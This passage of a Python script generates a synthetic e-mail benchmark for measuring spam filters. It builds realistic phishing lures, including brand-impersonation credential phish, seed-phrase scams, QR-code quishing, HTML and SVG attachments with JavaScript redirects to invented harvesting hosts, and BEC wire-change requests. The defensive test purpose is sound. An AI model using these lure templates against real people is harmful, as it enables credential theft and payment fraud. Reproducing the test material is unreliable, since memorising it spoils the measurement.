Tracking: 1Z%s%s

Thank you for using UPS.
''' % (rs(6, string.ascii_uppercase + string.digits), rdig(10))
    ph('UPS-themed phish with HTML "label" attachment that redirects', frm=('UPS Quantum View', 'pkginfo@ups-notify-center.com'), to=t,
       subject='UPS Delivery Notification - Tracking 1Z%s' % rdig(8), infra='direct', text=text,
       attachments=[attach(att.encode(), 'text/html', 'UPS_Label_%s.html' % rdig(6))], spf='softfail', dmarc_p=None)


# ============================================================================
# PHISHING: Netflix (2), DocuSign (3)
# ============================================================================
def phish_netflix_docusign():
    t = anyone()
    dom = 'netflix-billing-support.com'
    url = 'https://%s/youraccount/payment?nftoken=%s' % (dom, rb64u(30))
    text, html = txn('NETFLIX', '#e50914', 'Your payment was declined',
                     ['Hi %s,' % t[0].split()[0], "We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.",
                      'If we cannot process your payment, your membership will be put on hold.'],
                     cta='Update payment', url=url, footer=['Netflix International B.V.'], variant=2)
    ph('Netflix payment-declined phish', frm=('Netflix', 'info@' + dom), to=t, subject='Your Netflix membership is on hold',
       infra='sendgrid', text=text, html=html)

    dom = 'netflix-abonnement-suspendu.com'
    url = 'https://%s/fr/compte/paiement?id=%s' % (dom, rs(12))
    text = '''Bonjour,

Nous n'avons pas pu valider les informations de facturation pour la prochaine période de votre abonnement. Votre abonnement a donc été suspendu.

Pour continuer à profiter de vos films et séries, veuillez mettre à jour vos informations de paiement :

%s

L'équipe Netflix
''' % url
    ph('French Netflix-themed suspension phish', frm=('Netflix', 'service@' + dom), to=P['lucas'], subject='Votre abonnement Netflix est suspendu',
       infra='direct', text=text, html=spam_html(text.split('\n\n')[1:3], 'Mettre à jour', url, '#e50914', 'NETFLIX'), spf='none', dmarc_p=None)

    t = who(pool=WORKERS)
    dom = 'docusign-envelope-review.com'
    url = 'https://%s/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (dom, ruuid(), ruuid(), ruuid())
    text, html = txn('DocuSign', '#ffc83d', 'HR Department sent you a document to review and sign.',
                     ['Please review and sign: Payroll_Agreement_2026.pdf', 'HR Department', 'Please review the updated payroll agreement and sign before end of day.'],
                     cta='REVIEW DOCUMENT', url=url,
                     after=['Do Not Share This Email', 'This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.'],
                     footer=['Powered by DocuSign'])
    ph('DocuSign-themed payroll-agreement phish', frm=('HR Department via DocuSign', 'dse_na3@' + dom), to=t,
       subject='Complete with DocuSign: Payroll_Agreement_2026.pdf', infra='mailgun', text=text, html=html)

    t = who(pool=WORKERS)
    dom = 'lakeshore-advisors.com'
    url = 'https://esign-viewdocs.net/doc/%s?r=%s' % (rs(12), base64.b64encode(t[1].encode()).decode())
    text = '''Hello,

Please DocuSign the attached Revised NDA at your earliest convenience.

%s

Regards,
Claire Whitman
Lakeshore Advisors
''' % url
    ph('DocuSign-lure from a compromised advisory-firm M365 mailbox', frm=('Claire Whitman', 'c.whitman@' + dom), to=t,
       subject='Please DocuSign: Revised NDA', infra='m365', tenant='lakeshoreadvisors', text=text,
       html=simple_html(['Hello,', 'Please DocuSign the attached Revised NDA at your earliest convenience.', '', 'Regards,\nClaire Whitman\nLakeshore Advisors'], gmail=False).replace(
           'Revised NDA</', 'Revised NDA</').replace('at your earliest convenience.', 'at your earliest convenience.</p><p class="MsoNormal"><a href="%s">Review Document</a>' % esc(url)))

    t = who(pool=WORKERS)
    dom = 'docu-completed.net'
    link = 'https://%s/view/%s' % (dom, rs(14))
    pdf = make_pdf(['DocuSign Envelope ID: %s' % ruuid().upper(), 'Your document has been completed', 'All parties have signed.',
                    'Click below to view and download the completed document.'], title='Completed', link=link, link_label='VIEW COMPLETED DOCUMENT', d=rdate())
    text = 'All parties have completed "Contract_Amendment_%s.pdf". The completed document is attached.\n\nDocuSign\n' % rdig(4)
    ph('DocuSign-themed "completed" phish with PDF containing a link annotation', frm=('DocuSign', 'dse@' + dom), to=t,
       subject='Completed: Contract_Amendment_%s.pdf' % rdig(4), infra='direct', text=text,
       attachments=[attach(pdf, 'application/pdf', 'Completed_Document.pdf')], spf='softfail', dmarc_p=None)


# ============================================================================
# PHISHING: SharePoint / OneDrive shares (3)
# ============================================================================
def phish_sharepoint():
    t = who(pool=WORKERS)
    dom = 'sharepointonline-files.com'
    url = 'https://northfieldstudio-my.%s/:x:/g/personal/%s/%s?e=%s' % (dom, rl(10), rs(40, ALNUM + '-_'), rs(6))
    html = html_page(('<div style="font-family:\'Segoe UI\',sans-serif;max-width:560px;margin:0 auto;padding:24px">'
                      '<p style="font-size:14px">Sam Whitcombe shared a file with you</p>'
                      '<div style="border:1px solid #e1dfdd;padding:16px;margin:16px 0"><b>Q4 Bonus Structure.xlsx</b><br><span style="color:#605e5c">This link will work for people in Northfield Studio.</span></div>'
                      '<p><a href="%s" style="background:#0078d4;color:#fff;padding:10px 24px;text-decoration:none">Open</a></p>'
                      '<p style="font-size:11px;color:#605e5c">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>') % esc(url), 'Shared file')
    ph('Fake SharePoint share of "Q4 Bonus Structure.xlsx"', frm=('Sam Whitcombe (via SharePoint)', 'no-reply@' + dom), to=t,
       subject='Sam Whitcombe shared "Q4 Bonus Structure" with you', infra='ses', html=html,
       text='Sam Whitcombe shared a file with you\n\nQ4 Bonus Structure.xlsx\n\nOpen: %s\n' % url)

    t = P['finance_oak']
    dom = 'ashgrovesupply.com'
    link = 'https://onedrive-filedrop.com/d/%s' % rs(16)
    pdf = make_pdf(['Remittance Advice', 'Ashgrove Supply Co.', 'Payment of $18,420.00 has been scheduled.', 'To view the remittance details, open the secure OneDrive file.'],
                   title='Remittance Advice', link=link, link_label='Open in OneDrive', d=rdate())
    text = 'Hi,\n\nPlease find our remittance advice attached for your records.\n\nKind regards,\nKaren Dorsey\nAccounts, Ashgrove Supply Co.\n'
    ph('OneDrive-themed remittance advice PDF with link from compromised supplier', frm=('Karen Dorsey', 'k.dorsey@' + dom), to=t,
       subject='Remittance Advice - %s' % (rdate()).strftime('%m/%d/%Y'), infra='m365', tenant='ashgrovesupply', text=text,
       attachments=[attach(pdf, 'application/pdf', 'Remittance_Advice_%s.pdf' % rdig(5))])

    t = who(pool=WORKERS)
    dom = 'cresthavenpartners.com'
    url = 'https://cresthavenpartners-my.sharepoint-fileshare.com/personal/j_park/%s' % rs(20)
    html = simple_html(['Hi,', "Jin Park has shared 'Engagement Letter - Signed.pdf' with you.", '', 'Thanks,', 'Jin'], gmail=False).replace(
        "with you.", "with you.</p><p class=\"MsoNormal\"><a href=\"%s\">Engagement Letter - Signed.pdf</a>" % esc(url))
    ph('SharePoint-lure from compromised external partner, look-alike share host', frm=('Jin Park', 'j.park@' + dom), to=t,
       subject="Jin Park shared 'Engagement Letter - Signed' with you", infra='m365', tenant='cresthavenpartners', html=html,
       text="Jin Park has shared 'Engagement Letter - Signed.pdf' with you.\n%s\n" % url)


# ============================================================================
# PHISHING: Meta/Instagram (3), crypto wallets (3)
# ============================================================================
def phish_meta_crypto():
    t = anyone()
    dom = 'meta-business-appeal.com'
    url = 'https://www.%s/help/contact/%s?case=%s' % (dom, rdig(15), rdig(10))
    text, html = txn('Meta', '#0866ff', 'Your Page has been scheduled for permanent deletion',
                     ['Hello,', 'We received a report that content on your Page infringes copyright. As a result, your Page is scheduled for permanent deletion within 24 hours.',
                      'If you believe this is a mistake, you can submit an appeal.'], rows=[('Case number', '#%s' % rdig(10))],
                     cta='Submit appeal', url=url, footer=['Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025'])
    ph('Meta page copyright-deletion appeal phish', frm=('Meta for Business', 'no-reply@' + dom), to=t, subject='Your Page has been scheduled for permanent deletion',
       infra='sendgrid', text=text, html=html)

    t = anyone()
    dom = 'instagram-copyright-center.com'
    url = 'https://%s/appeal?u=%s' % (dom, rs(12))
    text, html = txn('Instagram', '#c13584', 'Copyright infringement detected',
                     ['Hi,', 'Your recent post has been reported for copyright infringement. If you do not submit an objection within 24 hours, your account will be disabled.'],
                     cta='Object to decision', url=url, footer=['© Instagram from Meta, Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025'], variant=2)
    ph('Instagram copyright-strike phish', frm=('Instagram', 'security@' + dom), to=t, subject='Copyright infringement detected on your post',
       infra='direct', text=text, html=html, spf='softfail', dmarc_p=None)

    t = anyone()
    url = short()
    text = '''Meta Ads

Your ad account has been restricted

We found activity on your ad account that doesn't follow our Advertising Policies. Your ads will stop running and the account may be permanently disabled.

Request a review: %s

Meta Business Support
''' % url
    ph('Facebook Ads account-restricted phish via URL shortener', frm=('Meta Ads', 'ads-support@fb-adsmanager-review.com'), to=t,
       subject='Your ad account has been restricted', infra='mailjet', text=text)

    t = anyone()
    dom = 'metamask-verification.io'
    url = 'https://app.%s/verify?wallet=%s' % (dom, rs(12))
    text, html = txn('MetaMask', '#f6851b', 'Wallet verification required',
                     ['Dear MetaMask user,', 'Due to new regulatory requirements, all wallets must complete verification by %s. Unverified wallets will be restricted.' % (rdate()).strftime('%B %-d, %Y'),
                      'Verification takes less than 2 minutes and requires your Secret Recovery Phrase to confirm ownership.'],
                     cta='Verify wallet', url=url, footer=['© 2025 MetaMask'])
    ph('MetaMask "mandatory verification" seed-phrase phish', frm=('MetaMask', 'support@' + dom), to=t, subject='Action required: verify your MetaMask wallet',
       infra='brevo', text=text, html=html)

    t = anyone()
    dom = 'ledger-secure-update.com'
    url = 'https://%s/migrate?id=%s' % (dom, rdig(8))
    text = '''Important security update

Dear Ledger customer,

Following a recent security incident affecting a third-party provider, we strongly recommend that all customers migrate their recovery phrase to a new secure vault.

Use the official migration tool below. The process takes about 5 minutes.

%s

If you do not complete the migration by the deadline, your assets may be at risk.

Ledger Security Team
''' % url
    ph('Ledger-themed "migrate recovery phrase" phish', frm=('Ledger', 'security@' + dom), to=t, subject='Important: migrate your recovery phrase',
       infra='direct', text=text, spf='none', dmarc_p=None)

    t = anyone()
    dom = 'cbwallet-rewards.com'
    url = 'https://claim.%s/?r=%s' % (dom, rs(10))
    html = spam_html(['Congratulations! As a loyal wallet user you are eligible for a 0.5 ETH loyalty reward.', 'Connect your wallet to claim. Rewards expire in 72 hours.'],
                     'Claim 0.5 ETH', url, '#0052ff', 'Your reward is ready', foot='Wallet Rewards Program')
    ph('Crypto-wallet "claim reward" drainer phish', frm=('Coinbase Wallet', 'no-reply@' + dom), to=t, subject='🎁 Claim your 0.5 ETH loyalty reward',
       infra='sendgrid', html=html)


# ============================================================================
# PHISHING: HR / payroll (3), voicemail (2)
# ============================================================================
def phish_hr_voice():
    t = P['maya']
    dom = 'northfield-studio-hr.com'
    url = 'https://portal.%s/handbook/ack?emp=%s' % (dom, rdig(5))
    text = '''Hello Maya,

Please review and acknowledge the updated Employee Handbook for 2026, which includes changes to remote-work, PTO and expense policies.

All employees must acknowledge by Friday.

Review and acknowledge: %s

Thank you,
People Operations
Northfield Studio
''' % url
    ph('HR "employee handbook acknowledgement" phish from org look-alike domain', frm=('Northfield Studio HR', 'hr@' + dom), to=t,
       subject='Action required: Employee Handbook 2026 acknowledgement', infra='google', text=text, html=simple_html(text.strip().split('\n\n')),
       dmarc_p='none')

    t = who(pool=WORKERS)
    dom = 'workday-hrportal.com'
    url = 'https://%s/wday/authgwy/signin?redirect=n&u=%s' % (dom, _q(t[1]))
    text, html = txn('Workday', '#0875e1', 'Confirm your direct deposit information',
                     ['Your payroll direct-deposit details must be re-confirmed before the next pay run, or your salary payment may be delayed.'],
                     rows=[('Employee', t[0]), ('Pay date', (rdate()).strftime('%m/%d/%Y'))], cta='Confirm details', url=url,
                     footer=['This is a system-generated notification.'])
    ph('Payroll direct-deposit update phish (payroll diversion)', frm=('Payroll Services', 'payroll@' + dom), to=t,
       subject='Action required: confirm your direct deposit before payroll', infra='mailgun', text=text, html=html)

    t = who(pool=WORKERS)
    dom = 'oakmere-hrportal.com'
    link = 'https://%s/letters/%s' % (dom, rs(12))
    doc = make_docx(['Salary Increase Letter 2026', 'Dear Employee,', 'We are pleased to inform you of your approved salary adjustment for 2026.',
                     'For privacy reasons the new compensation details are available on the secure HR portal:', link, 'HR Department'], 'Salary letter', 'HR')
    text = 'Dear %s,\n\nPlease see attached your salary increase letter for 2026.\n\nHR Department\n' % t[0].split()[0]
    ph('"Salary increase letter" DOCX lure with portal link', frm=('HR Department', 'hr-notice@' + dom), to=t,
       subject='Your Salary Increase Letter 2026', infra='zoho', text=text,
       attachments=[attach(doc, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'Salary_Increase_Letter_2026.docx')])

    t = who(pool=WORKERS)
    att = ('<html><head><meta charset="utf-8"><title>Voice Message</title></head><body style="font-family:Arial">'
           '<p>Playing voice message... please sign in to continue.</p>'
           '<script>var u="%s";var m="%s";window.location.href=u+"?vm="+Date.now()+"#"+m;</script></body></html>\n') % (
        'https://vm-audio-play.online/wav/' + rs(10), t[1])
    text = '''You have received a new voicemail.

From: (503) 555-0193
Duration: 0:42
Received: %s

Listen to the attached audio message.

Voice Mail Service
''' % (rdate()).strftime('%A, %B %-d, %Y %-I:%M %p')
    ph('Voicemail phish with HTML attachment redirecting to credential page', frm=('Voice Mail Service', 'voicemail@vm-notify-system.com'), to=t,
       subject='New voicemail from (503) 555-0193 - 0:42', infra='direct', text=text,
       attachments=[attach(att.encode(), 'text/html', 'VM_Audio_0193.html')], spf='softfail', dmarc_p=None)

    t = who(pool=WORKERS)
    dom = 'rc-voicemail-portal.com'
    url = 'https://%s/listen/%s' % (dom, rs(14))
    text, html = txn('RingCentral', '#ff7a00', 'You have a new voice message',
                     ['Caller: WIRELESS CALLER', 'Duration: 1 min 08 sec', 'Message ID: %s' % rdig(10)], cta='Listen to message', url=url,
                     footer=['This message was sent automatically.'], variant=2)
    ph('RingCentral-themed voicemail link phish', frm=('RingCentral Notification', 'notify@' + dom), to=t,
       subject='New Voice Message from WIRELESS CALLER', infra='ses', text=text, html=html)


# ============================================================================
# PHISHING: QR-code quishing (3)
# ============================================================================
def phish_qr():
    t = who(pool=WORKERS)
    target = 'https://mfa-reenroll.top/%s?e=%s' % (rs(8), base64.b64encode(t[1].encode()).decode()[:20])
    png = qr_png(target, scale=4)
    cid = 'qr_%s' % rl(8)
    html = html_page(('<div style="font-family:\'Segoe UI\',sans-serif;max-width:520px;margin:0 auto;padding:24px;border:1px solid #ddd">'
                      '<div style="color:#737373;font-size:18px">Microsoft 365</div><h2>Multi-factor authentication update required</h2>'
                      '<p>Your Microsoft Authenticator registration expires today. To avoid losing access to email and Teams, re-register using your mobile device.</p>'
                      '<p>Scan the QR code below with your phone camera:</p><p style="text-align:center"><img src="cid:%s" width="200" height="200" alt="QR code"></p>'
                      '<p style="font-size:12px;color:#777">This is an automated message from IT Security.</p></div>') % cid, 'MFA update')
    ph('Quishing: MFA re-registration with inline QR code image', frm=('IT Security', 'it-security@tenant-mfa-notice.com'), to=t,
       subject='ACTION REQUIRED: MFA registration expires today', infra='sendgrid', html=html,
       related=[attach(png, 'image/png', 'qrcode.png', disp='inline', cid=cid)])

    t = who(pool=WORKERS)
    target = 'https://sign-docview.cfd/d/%s' % rs(10)
    png = qr_png(target, scale=4)
    text = 'A document has been shared with you for signature.\n\nFor security reasons, it can only be opened on your mobile device. Scan the attached QR code to review and sign.\n\nDocument: Vendor_Agreement_%s.pdf\n' % rdig(4)
    ph('Quishing: "sign on mobile" document with QR image attachment', frm=('Document Center', 'docs@esign-mobilevault.com'), to=t,
       subject='Document pending your signature (scan to view)', infra='mailgun', text=text,
       attachments=[attach(png, 'image/png', 'Scan_to_View.png')])

    t = anyone()
    target = 'https://pdx-parking-pay.top/%s' % rs(8)
    png = qr_png(target, scale=4)
    cid = 'qr_%s' % rl(8)
    html = html_page(('<div style="font-family:Arial,sans-serif;max-width:520px;margin:0 auto;padding:20px">'
                      '<h2 style="color:#1b3a5c">NOTICE OF UNPAID PARKING VIOLATION</h2>'
                      '<p>Citation #: PK%s<br>Amount due: $45.00<br>Due date: %s</p>'
                      '<p>Failure to pay within 7 days will result in a late fee of $90.00 and referral to collections.</p>'
                      '<p>Scan to pay securely:</p><img src="cid:%s" width="180" height="180" alt="Pay">'
                      '<p style="font-size:11px;color:#888">Parking Enforcement Division</p></div>') % (rdig(7), (rdate()).strftime('%m/%d/%Y'), cid), 'Parking violation')
    ph('Quishing: unpaid parking fine with QR payment code', frm=('Parking Enforcement', 'citations@cityparking-notice.com'), to=t,
       subject='Unpaid parking violation - final notice', infra='direct', html=html, spf='softfail', dmarc_p=None,
       related=[attach(png, 'image/png', 'pay.png', disp='inline', cid=cid)])


# ============================================================================
# PHISHING: HTML / SVG attachments (3)
# ============================================================================
def phish_attachments():
    t = who(pool=WORKERS)
    svg = svg_redirect('https://remit-docs.sbs/view/%s' % rs(10), t[1])
    text = 'Hello,\n\nPlease find the payment remittance advice attached.\n\nRegards,\nAccounts Payable\n'
    ph('SVG attachment with embedded JavaScript redirect (remittance lure)', frm=('Accounts Payable', 'ap@granitepeak-logistics.com'), to=t,
       subject='Payment Remittance Advice #%s' % rdig(6), infra='direct', text=text,
       attachments=[attach(svg.encode(), 'image/svg+xml', 'Payment_Remittance_Advice.svg')], spf='pass', dmarc_p='none',
       dkim_override=[('granitepeak-logistics.com', 'default', 'rsa')], helo='mail.granitepeak-logistics.com')

    t = who(pool=WORKERS)
    att = login_page_html('Microsoft', 'https://invoicereview-portal.xyz/p.php', t[1], title='Review invoice')
    text = 'Hi,\n\nAttached is invoice #%s for your review. Please sign in to view the secure document.\n\nThanks,\nBilling\n' % rdig(5)
    ph('HTML attachment containing a fake sign-in form (invoice lure)', frm=('Billing Team', 'billing@summitline-co.com'), to=t,
       subject='Invoice #%s ready for review' % rdig(5), infra='brevo', text=text,
       attachments=[attach(att.encode(), 'text/html', 'Invoice_Review_%s.html' % rdig(5))])

    t = who(pool=WORKERS)
    svg = svg_link('https://efax-viewer.online/f/%s' % rs(10), 'View Fax Document')
    text = 'You have received a new fax (3 pages). Open the attached document to view.\n\neFax Notification Service\n'
    ph('SVG "fax received" attachment containing a phishing link', frm=('eFax Notification', 'notification@efax-message-center.com'), to=t,
       subject='Fax received: 3 pages from +1 (212) 555-0148', infra='direct', text=text,
       attachments=[attach(svg.encode(), 'image/svg+xml', 'FAX_Received_3pages.svg')], spf='neutral', dmarc_p=None)


# ============================================================================
# PHISHING: BEC payment diversion (3), thread hijack (2)
# ============================================================================
def phish_bec():
    t = P['finance_oak']
    dom = 'be11weatherdesign.com'
    pdf = make_pdf(['Bellweather Design LLC', 'Change of Banking Details', 'Effective immediately, please remit all payments to:',
                    'Bank: First Meridian Bank', 'Routing: %s' % rdig(9), 'Account: %s' % rdig(11), 'Authorized by: Accounts Department'], title='Bank details', d=rdate())
    text = '''Hi Finance team,

I hope you are doing well. Please note that we have changed our banking details due to an ongoing audit with our previous bank. Kindly update your records with the attached letter and use the new account for invoice 1071 and all future payments.

Could you please confirm once the update has been made? Invoice 1071 is due this week.

Thank you,
Nora Bell
Bellweather Design LLC
'''
    ph('BEC vendor bank-change request from a look-alike domain (1 for l)', frm=('Nora Bell - Bellweather Design', 'accounts@' + dom), to=t,
       reply_to=('Nora Bell', 'accounts@' + dom), subject='Updated banking details - Bellweather Design', infra='m365', tenant='be11weather',
       text=text, attachments=[attach(pdf, 'application/pdf', 'Bellweather_Bank_Change_Letter.pdf')])

    t = P['marcus']
    text = '''Marcus,

Are you available? I need you to handle something for me quickly and discreetly. I'm in back-to-back meetings and can't take calls.

Let me know ASAP.

Leah
Sent from my iPhone
'''
    ph('CEO-impersonation gift-card BEC opener from free-mail-like domain', frm=('Leah Brennan', 'leah.brennan.office@mailbox-exec.com'), to=t,
       subject='Quick favor', infra='direct', helo='mail.mailbox-exec.com', text=text, spf='pass', dmarc_p='none',
       dkim_override=[('mailbox-exec.com', 'mx1', 'rsa')], headers=[('X-Mailer', 'iPhone Mail (22F76)')])

    t = P['owen']
    dom = 'harborline-legal.co'
    text = '''Hi Owen,

Following up on our call. Please note there has been an update to the wire instructions for the settlement payment due to a change with our escrow account. Please use the details below instead of the ones previously provided:

Bank: Pacific Crest Bank
ABA: %s
Account: %s
Beneficiary: Harborline Legal LLP Escrow

Please send confirmation once the wire has been initiated so we can release the documents today.

Best regards,
Marcus Oyelaran
Harborline Legal
''' % (rdig(9), rdig(10))
    ph('BEC wire-instruction change from a look-alike of the counterparty law firm', frm=('Marcus Oyelaran', 'moyelaran@' + dom), to=t,
       subject='RE: Settlement payment - updated wire instructions', infra='zoho', text=text, in_reply_to='<%s@harborline-legal.example>' % ruuid())


def phish_hijack():
    t = P['finance_oak']
    dom = 'ashgrovesupply.com'
    d0 = rdate((2025, 3, 1), (2026, 9, 1))
    d = d0 + dt.timedelta(days=R.randint(3, 20))
    url = 'https://ashgrove-docs.online/share/%s' % rs(12)
    prior = '''Hi Karen,

Thanks - we've received invoices 5521 and 5523. 5522 seems to be missing from the batch, could you resend?

Best,
Grace Lindqvist
Oakmere Consulting'''
    text = '''Hi Grace,

Apologies for the delay. I've uploaded all Q3 invoices including 5522 to our secure portal, along with the updated statement:

%s

Please let me know once you've reviewed.

Kind regards,
Karen Dorsey
Accounts, Ashgrove Supply Co.

-----Original Message-----
From: Grace Lindqvist <grace.lindqvist@oakmere-consulting.example>
Sent: %s
To: Karen Dorsey <k.dorsey@ashgrovesupply.com>
Subject: RE: Q3 invoices

%s
''' % (url, d0.strftime('%A, %B %-d, %Y %-I:%M %p'), prior)
    ph('Thread-hijack reply from compromised supplier mailbox with link to fake document portal', frm=('Karen Dorsey', 'k.dorsey@' + dom),
       to=[P['grace']], cc=[t], subject='RE: Q3 invoices', date=d, infra='m365', tenant='ashgrovesupply', text=text,
       html=simple_html(text.strip().split('\n\n'), gmail=False), in_reply_to='<%s@oakmere-consulting.example>' % ruuid())

    t = P['tom']
    dom = 'verity-geodata.com'
    inner = login_page_html('Microsoft', 'https://files-verity.online/s.php', t[1])
    z = make_zip([('Project_Files_Q%d.html' % R.randint(1, 4), inner.encode())])
    text = '''Hi Tomasz,

As discussed in the thread below, here are the updated project files. The archive is password protected for security.

Password: %s

Thanks,
Daniel

On %s, Tomasz Zielinski wrote:
> Daniel, can you send over the latest survey exports when you get a
> chance? We need them for the sprint review on Thursday.
''' % (rdig(4), (rdate()).strftime('%a, %b %-d, %Y at %-I:%M %p'))
    ph('Thread-hijack reply with "password-protected" ZIP holding an HTML credential page', frm=('Daniel Ferreira', 'd.ferreira@' + dom),
       to=t, subject='Re: Project files', infra='cpanel', host='cp%d.geo-hosting.net' % R.randint(10, 99), webmail=True, cp_dkim=True,
       text=text, attachments=[attach(z, 'application/zip', 'Project_Files.zip')], in_reply_to='<%s@kestrel-labs.example>' % ruuid(),
       headers=[('User-Agent', 'Roundcube Webmail/1.6.5')])


# ============================================================================
# Main
# ============================================================================
HAM_FUNCS = [ham_promos, ham_muji, ham_saas, ham_receipts, ham_travel, ham_bank, ham_security, ham_shipping, ham_charity,
             ham_newsletters, ham_recruiters, ham_smallbiz, ham_calendar, ham_personal, ham_lists, ham_ci, ham_crypto,
             ham_health, ham_school]
SPAM_FUNCS = [spam_health, spam_invest, spam_casino, spam_dating, spam_jobs, spam_b2b_lists, spam_warranty, spam_home,
              spam_rewards, spam_extortion, spam_advance, spam_invoices, spam_renewal, spam_storage, spam_b2b_pitch,
              spam_classic]
PHISH_FUNCS = [phish_m365, phish_google_apple, phish_banks, phish_paypal, phish_parcels, phish_netflix_docusign,
               phish_sharepoint, phish_meta_crypto, phish_hr_voice, phish_qr, phish_attachments, phish_bec, phish_hijack]
EXPECTED = {'ham': 160, 'spam': 90, 'phish': 50}

README = """# Synthetic 2025-2026 e-mail measurement set ("modern-fresh3")

Provenance
----------
* **Synthetic.** Every message in this directory was generated by `generate.py`
  (Python 3 standard library only, fixed random seed %d, no clock reads).
  No message was copied from a real mailbox.
* Written on **2026-11-28** by a writer who had **not seen the spam filter** this
  set is meant to measure, nor its source code, tests, or training data.
* **Measurement only. Never use these messages for training, tuning, rule
  writing or threshold selection** - doing so would make any score measured on
  them meaningless.

Contents
--------
* `ham/0001.eml` .. `ham/0160.eml` - 160 legitimate messages, chosen to be the
  kind filters get wrong: retail promotions with discount codes and countdowns,
  SaaS updates and webinars, receipts, invoices and statements, travel bookings,
  bank/card alerts, security notices the user requested, shipping notices with
  click-tracked links, charity and crowdfunding appeals, Substack/Beehiiv/Ghost
  newsletters, advocacy mail, recruiters' cold mail, a small business newsletter
  sent from shared hosting without DKIM, calendar invitations, personal mail,
  mailing-list posts, CI/GitHub/Jira/monitoring notifications, crypto-exchange
  notices, health/insurance portals, school and HOA notices.
* `spam/0001.eml` .. `spam/0090.eml` - 90 spam messages: GLP-1 and supplement
  offers, crypto/investment schemes, casino and betting, dating, fake jobs and
  task scams, lead lists and SEO/web-design pitches, car warranties, solar and
  roofing, gift-card "rewards" and surveys, sextortion/extortion, advance-fee
  fraud, fake invoices and callback scams, domain/listing/trademark renewal
  scams, "storage full" scams, cold B2B pitches and classic junk. Much of it
  is sent through legitimate ESPs with passing DKIM and one-click unsubscribe.
* `phish/0001.eml` .. `phish/0050.eml` - 50 phishing messages: Microsoft 365,
  Google, Apple, banks, PayPal, parcel carriers, Netflix, DocuSign,
  SharePoint/OneDrive, Meta/Instagram, crypto wallets, HR/payroll, voicemail,
  QR-code (quishing), HTML/SVG attachments, look-alike and IDN homograph
  domains, open redirectors, URL shorteners, BEC payment diversion and thread
  hijacking.
* `MANIFEST.tsv` - `file<TAB>label<TAB>scenario` for every message.

Conventions
-----------
* RFC 5322 messages, one per file, CRLF line endings; every file parses with
  Python's `email` package.
* Charsets: UTF-8, ISO-8859-1, ISO-8859-15, windows-1252, ISO-2022-JP, KOI8-R,
  GB2312; transfer encodings 7bit, 8bit, quoted-printable and base64; RFC 2047
  encoded subjects and display names.
* Header provenance (Received chains, DKIM-Signature, ARC-*, Authentication-Results,
  Message-ID formats, Feedback-ID, List-Unsubscribe(-Post), List-Id) imitates the
  real sending infrastructure (Amazon SES, SendGrid, Mailchimp/Mandrill, Klaviyo,
  HubSpot, Salesforce Marketing Cloud, SparkPost, Postmark, Mailgun, Brevo,
  Mailjet, Google Workspace/Gmail, Microsoft 365/Outlook.com, iCloud, Zoho,
  Fastmail, Proton, Yahoo, cPanel/Exim shared hosting, Mailman and other list
  servers, botnets). Signatures and seals are **plausible but cryptographically
  meaningless**.
* No header states the label. There are no spam-verdict headers.
* Recipients live at invented `.example` domains. Real brands appear with their
  real domains **only in ham**. Every spam/phishing domain, link and address is
  invented (realistic TLDs, never a real organisation's registered domain).
* All IPv4 addresses come from 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24.
* Message dates fall between January 2025 and November 2026.

Regenerate with `python3 generate.py` (output is byte-for-byte deterministic).
""" % SEED


def validate(path, label):
    import email
    import email.policy
    raw = open(path, 'rb').read()
    assert b'\r\n' in raw and re.search(rb'(?<!\r)\n', raw) is None, 'bare LF in %s' % path
    assert re.search(rb'\r(?!\n)', raw) is None, 'bare CR in %s' % path
    for line in raw.split(b'\r\n'):
        assert len(line) <= 998, 'overlong line in %s' % path
    hdr = raw.split(b'\r\n\r\n', 1)[0]
    assert all(b < 128 for b in hdr), 'non-ASCII header in %s' % path
    m = email.message_from_bytes(raw, policy=email.policy.default)
    for k in ('From', 'To', 'Subject', 'Date', 'Message-ID', 'MIME-Version'):
        assert m[k] is not None, '%s missing %s' % (path, k)
    str(m['Subject'])
    str(m['From'])
    nparts = 0
    for part in m.walk():
        if part.is_multipart():
            continue
        nparts += 1
        part.get_content()
    assert nparts >= 1
    for ipm in re.finditer(rb'(?<![\d.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![\d.])', hdr):
        a = ipm.group(0).decode()
        if any(int(x) > 255 for x in ipm.groups()):
            continue
        before = hdr[max(0, ipm.start() - 9):ipm.start()]
        if before.endswith((b'Foxmail ', b'Express ', b'id ')) or a.startswith('15.20.'):
            continue
        ok = a.startswith(NETS)
        assert ok, 'non-documentation IP %s in %s' % (a, path)
    return m


def main():
    for f in HAM_FUNCS + SPAM_FUNCS + PHISH_FUNCS:
        f()
    groups = {'ham': [], 'spam': [], 'phish': []}
    for s in SPECS:
        groups[s['label']].append(s)
    for k, v in EXPECTED.items():
        if len(groups[k]) != v:
            raise SystemExit('expected %d %s, built %d' % (v, k, len(groups[k])))
    for k in groups:
        shutil.rmtree(os.path.join(HERE, k), ignore_errors=True)
        os.makedirs(os.path.join(HERE, k))
    order = random.Random(SEED + 1)
    manifest = ['file\tlabel\tscenario']
    for label in ('ham', 'spam', 'phish'):
        specs = groups[label]
        order.shuffle(specs)
        for i, s in enumerate(specs, 1):
            raw = build(s)
            rel = '%s/%04d.eml' % (label, i)
            with open(os.path.join(HERE, rel), 'wb') as fh:
                fh.write(raw)
            manifest.append('%s\t%s\t%s' % (rel, label, s['scenario'].replace('\t', ' ')))
    with open(os.path.join(HERE, 'MANIFEST.tsv'), 'w', encoding='utf-8', newline='\n') as fh:
        fh.write('\n'.join(manifest) + '\n')
    with open(os.path.join(HERE, 'README.md'), 'w', encoding='utf-8', newline='\n') as fh:
        fh.write(README)
    # self-check
    n = 0
    for line in manifest[1:]:
        rel, label, _ = line.split('\t')
        validate(os.path.join(HERE, rel), label)
        n += 1
    print('wrote and validated %d messages (%s)' % (n, ', '.join('%s=%d' % (k, len(groups[k])) for k in groups)))


if __name__ == '__main__':
    main()
